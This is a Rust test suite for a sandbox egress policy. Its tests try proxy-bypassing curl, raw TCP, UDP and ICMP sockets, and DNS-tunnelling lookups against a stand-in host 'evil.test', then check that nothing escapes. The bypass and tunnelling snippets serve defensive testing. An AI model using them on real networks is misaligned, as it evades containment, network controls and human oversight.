//! S27, S28, S30, S32, S35, S45, L16: whoever opens a socket by himself reaches nobody but whom the
//! policy names, and has his own loopback.

use crate::asking::POLICY;
use crate::internet::{DNS, EVIL, EVIL_6, GOOD, Internet};
use crate::support::is_root;

#[test]
fn s27_without_proxy_variables_there_is_no_other_way() {
    let Some(net) = Internet::take() else { return };
    let script = format!(
        "env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy NO_PROXY='*' no_proxy='*' \
         curl -sS --noproxy '*' --max-time 8 https://{EVIL}/"
    );
    net.outside(&["sh", "-c", &script]).works("without a wall");
    assert!(net.evil() > 0);
    net.forget();
    let ran = net.inside(POLICY, &["sh", "-c", &script]);
    ran.fails(&["alert", "reset", "SSL", "Failed to connect"], "judged");
    assert_eq!(net.seen().packets, []);
    net.inside(POLICY, &["curl", "-sS", "--noproxy", "*", "https://good.test/"]).works("twin");
}

/// What a socket can be, and an exchange that EVIL answers.
const SOCKETS: &[(&str, &str)] = &[
    (
        "TCP on 443",
        "s = socket.create_connection((A, 443), 5); s.sendall(b'x'); s.settimeout(5); s.shutdown(1); assert s.recv(1) == b''",
    ),
    (
        "TCP on 80",
        "s = socket.create_connection((A, 80), 5); s.settimeout(5); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); assert b'200' in s.recv(99)",
    ),
    (
        "TCP on 5432",
        "s = socket.create_connection((A, 5432), 5); s.settimeout(5); s.sendall(b'x'); assert s.recv(1) == b'x'",
    ),
    (
        "UDP on 5000",
        "s = socket.socket(F, 2); s.settimeout(3); s.sendto(b'x', (A, 5000)); assert s.recv(9) == b'x'",
    ),
    (
        "UDP on 443",
        "s = socket.socket(F, 2); s.settimeout(3); s.sendto(b'x', (A, 443)); assert s.recv(9) == b'x'",
    ),
    (
        "ping",
        "s = socket.socket(F, 2, 1 if F == 2 else 58); s.settimeout(3); s.sendto((b'\\x08' if F == 2 else b'\\x80') + b'\\0\\0\\0\\0\\0\\0\\0tunnel', (A, 0)); assert b'tunnel' in s.recv(99)",
    ),
];

/// The same for who may: outside, root.
const RAW: &[(&str, &str)] = &[
    ("raw", "s = socket.socket(F, 3, 253); s.sendto(b'x', (A, 0))"),
    (
        "packet",
        "s = socket.socket(17, 2, 0); [s.sendto(b'x' * 60, (n, 0x0800)) for _, n in socket.if_nameindex() if n != 'lo'][0]",
    ),
];

fn each(net: &Internet, family: u8, address: &str) {
    let raw = if is_root() { RAW } else { &[] };
    for (why, act) in SOCKETS.iter().chain(raw) {
        net.forget();
        let act = format!("import socket\nF, A = {family}, '{address}'\n{act}");
        net.python_outside(&act).works(why);
        assert!(!net.seen().packets.is_empty(), "{why}: the control leaves HOST");
        net.forget();
        if *why == "TCP on 443" {
            // Accepted by the gateway, to be judged, and closed: as EVIL itself does with such bytes.
            let ran = net.python_inside(POLICY, &act);
            assert!(matches!(ran.status, Some(0 | 1)), "{why}: {ran:?}");
        } else {
            let ran = net.python_inside(POLICY, &act);
            assert_eq!(ran.status, Some(1), "{why}: should fail inside: {ran:?}");
        }
        assert_eq!((net.seen().packets, net.seen_by_host().packets), (vec![], vec![]), "{why}");
    }
}

#[test]
fn s28_s32_no_kind_of_socket_leaves() {
    let Some(net) = Internet::take() else { return };
    each(&net, 2, EVIL);
}

#[test]
fn s35_nor_by_ipv6() {
    let Some(net) = Internet::take() else { return };
    each(&net, 10, EVIL_6);
}

#[test]
fn s30_no_question_leaves() {
    let Some(net) = Internet::take() else { return };
    let many = |suffix: &str| {
        format!(
            "import os, socket\nfor i in range(200):\n    try: socket.getaddrinfo(os.urandom(12).hex() + '.{suffix}', 80)\n    \
             except socket.gaierror: pass"
        )
    };
    let question = "b'\\x01\\x02\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06tunnel\\x04evil\\x04test\\0\\0\\x01\\0\\x01'";
    let direct = |ip: &str| {
        format!(
            "import socket\nq = {question}\n\
             def tcp():\n    s = socket.create_connection(('{ip}', 53), 3); s.settimeout(3); s.sendall(len(q).to_bytes(2, 'big') + q); s.recv(99)\n\
             def udp():\n    s = socket.socket(2, 2); s.settimeout(2); s.sendto(q, ('{ip}', 53)); s.recv(99)\n\
             for act in (tcp, udp):\n    try: act()\n    except OSError: pass"
        )
    };
    net.python_outside(&many("evil.test")).works("a tunnel");
    assert!(net.names().len() >= 200);
    net.forget();
    net.python_outside(&direct(EVIL)).works("by hand");
    assert_eq!(net.names(), ["tunnel.evil.test"]);
    assert_eq!(net.seen().queries.len(), 2, "by TCP and by UDP");
    net.forget();
    let servers = [EVIL, DNS, "198.18.0.1", "127.0.0.53", "127.0.0.1", "224.0.0.251"];
    let acts = servers.iter().map(|ip| direct(ip));
    for act in [many("evil.test"), many("good.test")].into_iter().chain(acts) {
        net.python_inside(POLICY, &act).works("refused, or answered here");
        assert_eq!((net.names(), net.seen().packets), (vec![], vec![]), "{act}");
    }
}

#[test]
fn s45_the_proxys_port_elsewhere_is_not_the_proxy() {
    let Some(net) = Internet::take() else { return };
    for port in [3128, 1080] {
        net.forget();
        let act = format!("import socket\nsocket.create_connection(('{EVIL}', {port}), 5)");
        net.python_outside(&act).works("without a wall");
        assert_eq!(net.hits(EVIL), 1);
        net.forget();
        net.python_inside(POLICY, &act).fails(&["ECONNREFUSED"], "nobody listens there");
        assert_eq!(net.seen().packets, []);
    }
    let act = "import socket\nsocket.create_connection(('198.18.0.1', 3128), 5)";
    net.python_inside(POLICY, act).works("the proxy itself");
}

#[test]
fn l16_own_sockets_work() {
    let Some(net) = Internet::take() else { return };
    let act = "import asyncio, socket, threading\n\
         a, b = socket.socketpair(); a.sendall(b'x'); assert b.recv(1) == b'x'\n\
         s = socket.socket(socket.AF_UNIX); s.bind('own.sock'); s.listen()\n\
         c = socket.socket(socket.AF_UNIX); c.connect('own.sock')\n\
         for family, ip in ((2, '127.0.0.1'), (10, '::1')):\n\
         \x20   for port in (0, 3128, 1080, 5432, 8443):\n\
         \x20       s = socket.create_server((ip, port), family=family); c = socket.create_connection(s.getsockname()[:2], 5)\n\
         \x20       s.accept()[0].sendall(b'y'); assert c.recv(1) == b'y'\n\
         async def turn():\n\
         \x20   server = await asyncio.start_server(lambda r, w: w.close(), '127.0.0.1', 0)\n\
         \x20   await asyncio.open_connection(*server.sockets[0].getsockname())\n\
         asyncio.run(turn())\n\
         assert socket.getaddrinfo('good.test', 443)\n\
         assert socket.getaddrinfo('localhost', 80)";
    net.python_outside(&act.replace("3128, 1080, 5432, 8443", "18443")).works("without a wall");
    net.outside(&["rm", "own.sock"]).works("its socket");
    net.python_inside(POLICY, act).works("inside, on every port");
    assert!(net.hits(GOOD) == 0, "a look-up is no connection");
}
